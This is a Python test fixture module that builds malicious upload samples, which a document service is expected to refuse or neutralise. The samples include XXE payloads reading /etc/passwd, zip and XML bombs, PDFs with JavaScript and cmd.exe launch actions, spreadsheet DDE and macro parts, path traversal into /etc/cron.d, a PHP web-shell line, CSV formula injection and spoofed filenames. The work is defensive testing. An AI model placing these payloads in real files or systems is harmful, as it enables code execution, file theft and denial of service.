"""Hostile files made in code: those that are refused, and those that are kept and can do nothing where they are served.

Names of tricks are sentences; each has the name that the file comes under and its bytes, or how to make them when they
are many.
"""

from __future__ import annotations

import io
import os
import struct
import zipfile
import zlib
from collections.abc import Callable

from tests.service.documents.issued import container, digital
from tests.service.documents.made import (
    ELF,
    LAUGHS,
    OLE,
    TYPES,
    WORKBOOK,
    jpg,
    linked,
    locked,
    lying,
    objects,
    ofd,
    overlapping,
    pdf,
    png,
    twice,
    xlsx,
    zipped,
)

Made = bytes | Callable[[], bytes]
MOST = 25 << 20
#: The string by which scanners are tried (EICAR), in pieces so that this file is none.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}" + b"$EICAR-STANDARD-ANTI" + b"VIRUS-TEST-FILE!$H+H*"
FETCHES = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:/etc/passwd">]><x>&a;</x>'


def filled(head: bytes, unit: bytes, tail: bytes = b"") -> bytes:
    """As many units as go into the largest file that is taken."""
    return head + unit * ((MOST - len(head) - len(tail)) // len(unit)) + tail


def nested(deep: int = 5) -> bytes:
    """An archive in an archive, so many times."""
    inside = b"<a/>"
    for _each in range(deep):
        inside = zipped({"a.zip": inside})
    return inside


def lapped(parts: int = 400) -> bytes:
    """Many entries of a catalogue that share one great piece of packed bytes (a bomb without nesting)."""
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("xl/workbook.xml", WORKBOOK)
        archive.writestr("xl/a.xml", b"<a>" + b" " * (4 << 20) + b"</a>")
        one = archive.getinfo("xl/a.xml")
        for number in range(parts):
            copy = zipfile.ZipInfo(f"xl/b{number}.xml")
            for name in ("compress_type", "compress_size", "file_size", "CRC", "header_offset", "flag_bits"):
                setattr(copy, name, getattr(one, name))
            archive.filelist.append(copy)
    return kept.getvalue()


def utf16(text: str) -> bytes:
    return text.encode("utf-16")


def chunked(kind: bytes, data: bytes) -> bytes:
    """A PNG with one more chunk before its end."""
    whole = png()
    more = struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))
    return whole[:-12] + more + whole[-12:]


def remarked(text: bytes) -> bytes:
    """A JPEG with a remark."""
    whole = jpg()
    return whole[:2] + b"\xff\xfe" + struct.pack("!H", len(text) + 2) + text + whole[2:]


def many_names() -> bytes:
    names = b" ".join(b"a%d=''" % number for number in range(1_500_000))
    return b"<a " + names[: MOST - 20].rpartition(b" ")[0] + b"/>"


def external(element: str) -> bytes:
    return f'<externalLink xmlns="x"><{element} ddeService="cmd" ddeTopic="/c calc"/></externalLink>'.encode()


def targets(target: str) -> dict[str, bytes]:
    said = f'<Relationships><Relationship Id="r" TargetMode="External" Target="{target}"/></Relationships>'
    return {"xl/_rels/workbook.xml.rels": said.encode()}


IN_OBJECTS = objects(b"<< /S /JavaScript >>")
MACRO_TYPE = b"<T><O ContentType='application/vnd.ms-excel.sheet.macroEnabled.main+xml'/></T>"
DDE = b"<externalLink><ddeLink/></externalLink>"
REFUSED: dict[str, tuple[str, Made]] = {
    "javascript in a pdf": ("a.pdf", pdf(b"<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>")),
    "javascript with a name in hex": ("a.pdf", pdf(b"<< /S /J#61vaScript /J#53 (x) >>")),
    "javascript in compressed objects": ("a.pdf", pdf(objects(b"<< /S /JavaScript >>"))),
    "javascript in objects named in hex": ("a.pdf", pdf(IN_OBJECTS.replace(b"ObjStm", b"Obj#53tm"))),
    "javascript in objects written in hex": (
        "a.pdf", pdf(b"2 0 obj << /Type /ObjStm /Filter /ASCIIHexDecode >> stream\n2f4a53>\nendstream")),
    "javascript in objects written in hex and packed": (
        "a.pdf", pdf(IN_OBJECTS.replace(b"/FlateDecode", b"[/ASCIIHexDecode /FlateDecode]"))),
    "a link to a program in a part in capitals": (
        "a.xlsx", xlsx({"xl/_rels/workbook.xml.RELS": targets("file:/c/x")["xl/_rels/workbook.xml.rels"]})),
    "a link to a program by a character reference": ("a.xlsx", xlsx(targets("&#102;ile:/c/x"))),
    "a link to a program in utf-16": ("a.xlsx", xlsx({
        name: ('<?xml version="1.0" encoding="utf-16"?>' + said.decode()).encode("utf-16")
        for name, said in targets("file:/c/x").items()
    })),
    "a pdf that starts a program": ("a.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>")),
    "a pdf that acts on opening": ("a.pdf", pdf(b"<< /AA << /O 3 0 R >> >>")),
    "a pdf with files within": ("a.pdf", pdf(b"<< /Names << /EmbeddedFiles 2 0 R >> >>")),
    "a pdf with a form of its own": ("a.pdf", pdf(b"<< /AcroForm << /XFA 2 0 R >> >>")),
    "a pdf with rich media": ("a.pdf", pdf(b"<< /Subtype /RichMedia >>")),
    "a pdf that sends a form": ("a.pdf", pdf(b"<< /S /SubmitForm /F (http://x) >>")),
    "a locked pdf": ("a.pdf", pdf(b"trailer << /Encrypt 5 0 R >>")),
    "a pdf cut off": ("a.pdf", b"%PDF-1.7\n1 0 obj"),
    "a pdf that is an archive too": ("a.pdf", pdf(after=zipped({"x": b"y"}))),
    "a pdf bomb": ("a.pdf", lambda: pdf(objects(b" " * (80 << 20)))),
    "a picture called pdf": ("a.pdf", png()),
    "a page called pdf": ("a.pdf", b"<html><script>alert(1)</script>"),
    "a program called jpg": ("a.jpg", ELF),
    "a page called jpg": ("a.jpg", b"<svg onload=alert(1)>"),
    "a jpg without a picture": ("a.jpg", b"\xff\xd8\xff\xe0\x00\x04JF\xff\xd9"),
    "a jpg cut off": ("a.jpg", jpg()[:20]),
    "a jpg that is an archive too": ("a.jpg", jpg(after=zipped({"x.class": b"y"}))),
    "a jpg with a page after it": ("a.jpg", jpg(after=b"<html><script>alert(1)</script>")),
    "a jpg with a program after it": ("a.jpg", jpg(after=ELF)),
    "a jpg with a pdf after it": ("a.jpg", jpg(after=pdf())),
    "a flood of dots in a jpg": ("a.jpg", jpg(65_000, 65_000)),
    "a flood of dots in a png": ("a.png", png(60_000, 60_000)),
    "a png with no width": ("a.png", png(0, 4)),
    "a png cut off": ("a.png", png()[:-20]),
    "a png with a wrong sum": ("a.png", png().replace(b"IDAT", b"IDAX")),
    "a png that goes on": ("a.png", png(after=b"<?php system($_GET[0]);")),
    "a png that is an archive too": ("a.png", png(after=zipped({"x": b"y"}))),
    "a bomb of one part": ("a.xlsx", lambda: xlsx({"xl/sheet.xml": b"<a>" + b" " * (200 << 20) + b"</a>"})),
    "a bomb by its ratio": ("a.xlsx", lambda: xlsx({"xl/media/a.emf": b"\1" * (30 << 20)})),
    "too many parts": ("a.xlsx", lambda: xlsx({f"xl/{n}.xml": b"<a/>" for n in range(1100)})),
    "sizes said too small": ("a.xlsx", lambda: lying(10)),
    "sizes said too large": ("a.xlsx", lambda: lying(4_000_000_000)),
    "parts over each other": ("a.xlsx", overlapping),
    "a part twice": ("a.xlsx", twice),
    "an archive in an archive": ("a.xlsx", xlsx({"xl/media/a.emf": zipped({"x": b"y"})})),
    "a macro": ("a.xlsx", xlsx({"xl/vbaProject.bin": b"x"})),
    "a macro by its type": ("a.xlsx", zipped({
        "[Content_Types].xml": MACRO_TYPE,
        "xl/workbook.xml": WORKBOOK})),
    "a sheet of old macros": ("a.xlsx", xlsx({"xl/macrosheets/sheet1.xml": b"<a/>"})),
    "a control that acts": ("a.xlsx", xlsx({"xl/activeX/activeX1.xml": b"<a/>"})),
    "an embedded paper": ("a.xlsx", xlsx({"xl/embeddings/oleObject1.bin": OLE})),
    "an old paper as a picture": ("a.xlsx", xlsx({"xl/media/image1.png": OLE})),
    "a program in a spreadsheet": ("a.xlsx", xlsx({"xl/media/run.exe": b"MZ"})),
    "a link that starts a program": ("a.xlsx", xlsx({"xl/externalLinks/externalLink1.xml": DDE})),
    "a link to a file elsewhere": ("a.xlsx", xlsx({"xl/_rels/workbook.xml.rels": b'<R><r Target="file:/c:/x"/></R>'})),
    "a spreadsheet that laughs": ("a.xlsx", xlsx({"xl/styles.xml": LAUGHS})),
    "a path upwards": ("a.xlsx", xlsx({"../../etc/cron.d/x": b"x"})),
    "a path from the root": ("a.xlsx", xlsx({"/etc/passwd": b"x"})),
    "a link to a path": ("a.xlsx", linked),
    "a locked spreadsheet": ("a.xlsx", locked),
    "a spreadsheet with a remark behind": ("a.xlsx", xlsx(comment=b"<script>")),
    "an archive that is no spreadsheet": ("a.xlsx", zipped({"x.txt": b"y"})),
    "a spreadsheet by another method": ("a.xlsx", zipped({"xl/workbook.xml": WORKBOOK}, zipfile.ZIP_LZMA)),
    "half a spreadsheet": ("a.xlsx", xlsx()[:200]),
    "an old spreadsheet": ("a.xlsx", OLE),
    "an archive that is no ofd": ("a.ofd", zipped({"x.xml": b"<a/>"})),
    "an ofd with a page": ("a.ofd", ofd({"Doc_0/a.html": b"<html>"})),
    "an ofd that moves": ("a.ofd", ofd({"Doc_0/Page.xml": b"<P><Movie ResourceID='1'/></P>"})),
    "a billion laughs": ("a.xml", LAUGHS),
    "xml that fetches": ("a.xml", b'<!DOCTYPE x SYSTEM "file:/etc/passwd"><x/>'),
    "xml that is a drawing": ("a.xml", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "xml that is a page": ("a.xml", b'<html xmlns="http://www.w3.org/1999/xhtml"><script/></html>'),
    "xml with a style that runs": ("a.xml", b'<?xml-stylesheet href="x.xsl"?><x/>'),
    "xml that is not closed": ("a.xml", b"<a><b></a>"),
    "xml very deep": ("a.xml", b"<a>" * 5000 + b"</a>" * 5000),
    "a page called csv": ("a.csv", b" \n<html><script>alert(1)</script>"),
    "a table with a zero": ("a.csv", b"a,b\0,c"),
    "bytes called csv": ("a.csv", bytes(range(128, 256)) * 3),
    "a drawing": ("a.svg", b"<svg/>"),
    "a document with macros": ("a.docm", zipped({"word/document.xml": b"<a/>"})),
    "a program": ("a.exe", b"MZ"),
    "a page": ("a.html", b"<html>"),
    "two endings": ("a.pdf.exe", pdf()),
    "no ending": ("授权委托书", pdf()),
    "nothing": ("a.pdf", b""),
    "a name that turns": ("gnp.\u202efdp.pdf", pdf()),
    "a name with a line": ("a\nb.pdf", pdf()),
    "a name with a zero": ("a.pdf\0.pdf", pdf()),
    "a name with folders": ("../../a.pdf", pdf()),
    "a name with other folders": ("c:\\a.pdf", pdf()),
    "a very long name": ("长" * 200 + ".pdf", pdf()),
    "a name of dots": ("..", pdf()),
}  # fmt: skip


MACRO_IN_UTF16 = utf16('<Types><Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>')
REFUSED |= {
    "archives within archives": ("a.xlsx", xlsx({"xl/media/a.emf": nested()})),
    "archives within archives called ofd": ("a.ofd", ofd({"Doc_0/Res/a.dat": nested()})),
    "one packed piece under many names": ("a.xlsx", lapped),
    "one tag of ninety megabytes": ("a.xlsx", lambda: xlsx({
        "xl/a.xml": b"<a b='" + b" " * (90 << 20) + b"'/>", "xl/media/b.emf": os.urandom(1 << 20)})),
    "one remark of ninety megabytes": ("a.xlsx", lambda: xlsx({
        "xl/a.xml": b"<a><!--" + b" " * (90 << 20) + b"--></a>", "xl/media/b.emf": os.urandom(1 << 20)})),
    "twenty million cells": ("a.xlsx", lambda: xlsx({
        "xl/a.xml": b"<a>" + b"<b/>" * 20_000_000 + b"</a>", "xl/media/b.emf": os.urandom(1 << 20)})),
    "a catalogue of thirty thousand": ("a.xlsx", lambda: xlsx({f"xl/{n}.xml": b"" for n in range(30_000)})),
    "a macro whose type is in UTF-16": ("a.xlsx", zipped({
        "[Content_Types].xml": MACRO_IN_UTF16, "xl/workbook.xml": WORKBOOK})),
    "a workbook with macros under another name": ("a.xlsx", xlsx({"xl/VBAPROJECT.BIN": b"x"})),
    "a link that talks to a program": ("a.xlsx", xlsx({"xl/externalLinks/externalLink1.xml": external("ddeLink")})),
    "a spreadsheet that reaches into a share": ("a.xlsx", xlsx(targets("\\\\10.0.0.1\\x"))),
    "a spreadsheet that runs a script": ("a.xlsx", xlsx(targets("JavaScript:alert(1)"))),
    "a spreadsheet that fetches an entity": ("a.xlsx", xlsx({"xl/sharedStrings.xml": FETCHES})),
    "types of a spreadsheet that fetch": ("a.xlsx", zipped({
        "[Content_Types].xml": FETCHES, "xl/workbook.xml": WORKBOOK})),
    "a spreadsheet in the old binary": ("a.xlsx", xlsx({"xl/embeddings/a.xls": OLE})),
    "an xlsm": ("a.xlsm", xlsx({"xl/vbaProject.bin": b"x"})),
    "an xlsb": ("a.xlsb", xlsx()),
    "an archive": ("a.zip", zipped({"a.pdf": pdf()})),
    "an invoice that fetches": ("a.xml", FETCHES),
    "an invoice in ofd that fetches": ("a.ofd", container(parts={"Doc_0/Attachs/original_invoice.xml": FETCHES})),
    "an invoice in ofd that laughs": ("a.ofd", container(parts={"Doc_0/Attachs/original_invoice.xml": LAUGHS})),
    "an ofd with a drawing that acts": ("a.ofd", ofd({"Doc_0/a.xml": b'<svg xmlns="http://www.w3.org/2000/svg"/>'})),
    "an ofd that sounds": ("a.ofd", ofd({"Doc_0/P.xml": utf16("<Page><Sound ResourceID='1'/></Page>")})),
    "an ofd with a link to a path": ("a.ofd", zipped({"OFD.xml": b"<OFD/>", "Doc_0/../../x.xml": b"<a/>"})),
    "ten megabytes of one tag": ("a.xml", lambda: b"<a b='" + b"x" * (10 << 20) + b"'/>"),
    "one tag of a million names": ("a.xml", many_names),
    "six million elements": ("a.xml", lambda: filled(b"<a>", b"<b/>", b"</a>")),
    "a page in another namespace": ("a.xml", b'<x:html xmlns:x="http://www.w3.org/1999/xhtml"/>'),
    "a sheet of styles that runs": ("a.xml", b'<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform"/>'),
    "xml in UTF-7": ("a.xml", b'<?xml version="1.0" encoding="UTF-7"?><x/>'),
    "parameters that declare others": ("a.xml", b'<!DOCTYPE x [<!ENTITY % a "<!ENTITY b \'c\'>"> %a;]><x/>'),
    "a drawing called png": ("a.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "an icon": ("a.ico", b"\0\0\1\0"),
    "a page by an old name": ("a.mht", b"MIME-Version: 1.0"),
    "a shortcut": ("a.lnk", b"L\0\0\0"),
    "a pdf with a page in front": ("a.pdf", b"<html><script>alert(1)</script>" + pdf()),
    "a pdf with a file attached": ("a.pdf", pdf(b"<< /Type /Filespec /EF << /F 2 0 R >> /EmbeddedFile 1 >>")),
    "a pdf that goes elsewhere": ("a.pdf", pdf(b"<< /S /GoToE /T << /R /C >> >>")),
    "a pdf with names in escapes alone": ("a.pdf", lambda: filled(b"%PDF-1.7\n", b"#41", b"\n%%EOF\n")),
    "a pdf of a million streams": ("a.pdf", lambda: filled(b"%PDF-1.7\n", b"stream endstream ", b"\n%%EOF\n")),
    "a pdf of many small bombs": ("a.pdf", lambda: pdf(b"\n".join([objects(b" " * (1 << 20))] * 3000))),
    "javascript over the edge of two pieces": ("a.pdf", lambda: pdf(objects(
        b" " * ((1 << 20) - 5) + b"/JavaScript (x)"))),
    "a locked pdf with its name in hex": ("a.pdf", pdf(b"trailer << /#45ncrypt 5 0 R >>")),
    "a pdf cut in the middle": ("a.pdf", filled(b"%PDF-1.7\n", b"x")[: 1 << 20]),
    "a jpg of markers": ("a.jpg", lambda: filled(b"\xff\xd8", b"\xff")),
    "a jpg of empty parts": ("a.jpg", lambda: filled(b"\xff\xd8", b"\xff\xe0\0\2")),
    "a png that says a great length": ("a.png", png()[:8] + b"\x7f\xff\xff\xffIHDR"),
    "a flood of dots in one line": ("a.png", png(2_000_000_000, 1)),
    "a table that is an archive": ("a.csv", zipped({"a": b"b"})),
    "a table with an escape": ("a.csv", b"a,\x1b[2J,b\n"),
    "a table that ends within a character": ("a.csv", "名称".encode()[:-1]),
    "a page called csv after blanks": ("a.csv", lambda: b" " * 5000 + b"<script>alert(1)</script>"),
    "one byte": ("a.pdf", b"%"),
    "nothing called xlsx": ("a.xlsx", b""),
    "a name of 255 letters": ("a" * 251 + ".pdf", pdf()),
    "a name that turns in part": ("a\u2067fdp.pdf", pdf()),
    "a name with a bell": ("a\x07.pdf", pdf()),
    "a name of blanks": ("   ", pdf()),
    "a virus by its trial": ("a.csv", EICAR),
    "a virus in a picture": ("a.png", chunked(b"tEXt", b"a\0" + EICAR)),
}  # fmt: skip

#: Kept, since a person may have made them so; where served they are bytes to be saved, under a name that is a text.
NEUTRALISED: dict[str, tuple[str, Made]] = {
    "a name with a script": ("<script>alert(1)<∕script>.pdf", pdf()),
    "a name that breaks out of a header": ('a"; filename="b.exe.pdf', pdf()),
    "a name that begins a formula": ("=cmd|' !A1.csv", b"a,b\n"),
    "a name of 255 bytes": ("长" * 83 + ".pdf", pdf()),
    "a name that is an address": ("javascript:alert(1).pdf", pdf()),
    "two endings, the last a harmless one": ("a.exe.pdf", pdf()),
    "a table of formulas": ("a.csv", b"=1+1,@SUM(A1),+cmd|' /C calc'!A0,-2\n=HYPERLINK(\"http://x\"),b\n"),
    "a table of one letter that is wide": ("a.csv", lambda: (b"a," * 12_000_000 + "😀".encode())[-MOST:]),
    "a table of blanks": ("a.csv", lambda: filled(b"", b" ", b"a")),
    "a spreadsheet of formulas": ("a.xlsx", xlsx({"xl/s.xml": b"<c><f>WEBSERVICE(1)</f></c>"})),
    "a picture with a page in its remark": ("a.jpg", remarked(b"<script>alert(1)</script>")),
    "a picture with a page in its text": ("a.png", chunked(b"tEXt", b"a\0<script>alert(1)</script>")),
    "a picture of more dots than it has": ("a.png", png(10_000, 10_000)),
    "a pdf with a page in its text": ("a.pdf", pdf(b"% <html><script>alert(1)</script>")),
    "a pdf that leads elsewhere": ("a.pdf", pdf(b"<< /S /URI /URI (http://x) >>")),
    "a pdf of one open stream after another": ("a.pdf", lambda: filled(b"%PDF-1.7\n", b"stream ", b"\n%%EOF\n")),
    "a pdf that unfolds to the limit": ("a.pdf", lambda: pdf(objects(b" " * (60 << 20)))),
    "an invoice with a page in its text": ("a.xml", digital().replace("服务器".encode(), b"&lt;script&gt;")),
    "an xml of characters alone": ("a.xml", lambda: filled(b"<a>", b"x", b"</a>")),
    "an xml of characters that are kept as they stand": ("a.xml", lambda: filled(b"<a><![CDATA[", b"<b>", b"]]></a>")),
}  # fmt: skip
